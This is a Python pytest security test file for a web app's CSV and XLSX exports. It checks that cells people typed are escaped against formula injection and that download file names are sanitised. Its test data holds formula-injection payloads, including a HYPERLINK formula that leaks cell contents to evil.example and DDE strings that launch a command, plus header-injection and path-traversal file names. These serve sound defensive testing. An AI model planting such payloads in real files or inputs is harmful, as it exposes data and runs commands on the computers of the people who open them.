"""Lists that go out as files: nothing that people typed is calculated by whoever opens them."""

import csv
import io

import openpyxl
import pytest

from crew_app.core.db import session, write_transaction
from crew_app.people.actions import set_roles
from crew_app.people.rules import Role
from crew_app.web import sheets
from crew_app.web.sheets import FORMULA, Column, Table, file_name
from tests.security.poison import poison
from tests.security.tally import ALL, count
from tests.support.routes import address, readable
from tests.support.tickets import make_ticket

TYPED = (
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\ud800=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)
NUMBERS = ("-1", "+1", "-0.5")


def typed(number):
    return TYPED[number % len(TYPED)].encode("utf-8", "ignore").decode() + f" {number}"


def cells_of(response):
    """Texts that a program would calculate."""
    data = response.get_data()
    if response.mimetype == "text/csv":
        rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
        return [cell for row in rows for cell in row if cell.startswith(FORMULA) and not _is_number(cell)]
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = [cell for page in book for row in page.iter_rows() for cell in row]
    calculated = [str(cell.value) for cell in found if cell.data_type == "f"]
    unmarked = [cell for cell in found if isinstance(cell.value, str) and cell.value.startswith(FORMULA)]
    return calculated + [str(cell.value) for cell in unmarked if not cell.quotePrefix]


def _is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def wrong_files(app, world, client, routes):
    found, texts = [], 0
    ticket = make_ticket(app, world)
    for route in routes:
        response = client.get(address(app, world, ticket, route))
        if response.status_code != 200:
            continue
        found += [(str(route), cell) for cell in cells_of(response)]
        texts += 1
    count("tables", files=texts, findings=len(found))
    return found


@pytest.fixture
def everything(app, world, sign_in):
    """Somebody with every role, over rows full of formulas."""
    with app.app_context(), write_transaction():
        set_roles(world.person("foreman"), world.sites["north"], list(Role))
        session.flush()
    client = sign_in("foreman")
    client.lints = False
    make_ticket(app, world, "finished")
    count("tables", cells=poison(app, typed))
    return client


def lists(app):
    found = [route for route in readable(app) if str(route).endswith((".csv", ".xlsx"))]
    assert len(found) > 100
    return found if ALL else found[::2]


def test_no_cell_of_any_list_is_calculated(app, world, everything):
    assert wrong_files(app, world, everything, lists(app)) == []


def test_a_cell_that_is_would_be_found(app, world, everything, monkeypatch):
    """Sabotage: texts go out as they are."""
    monkeypatch.setattr(sheets, "FORMULA", ("nothing begins like this",))
    found = wrong_files(app, world, everything, [one for one in readable(app) if "places/list" in str(one)])
    assert found


@pytest.mark.parametrize("text", TYPED)
def test_a_text_is_marked_whatever_stands_before_its_first_sign(app, text):
    with app.test_request_context("/list.csv"):
        said = b"".join(sheets._lines(Table("x", [Column("x")], [[text]]))).decode()  # noqa: SLF001 - one line of a file
    rows = list(csv.reader(io.StringIO(said.removeprefix("\ufeff"))))
    assert rows[1][0].startswith("'")


@pytest.mark.parametrize("number", NUMBERS)
def test_a_negative_text_is_a_text_too(app, number):
    with app.test_request_context("/list.csv"):
        assert sheets._said(number) == f"'{number}"  # noqa: SLF001


@pytest.mark.parametrize(
    ("called", "name"),
    [
        ("a\r\nX-Evil: 1", "a X-Evil 1"),
        ('x"; filename="y.exe', "x ; filename= y.exe"),
        ("../../etc/passwd", ".. .. etc passwd"),
    ],
)
def test_a_name_of_a_file_is_one_plain_line(called, name):
    assert file_name(called) == name
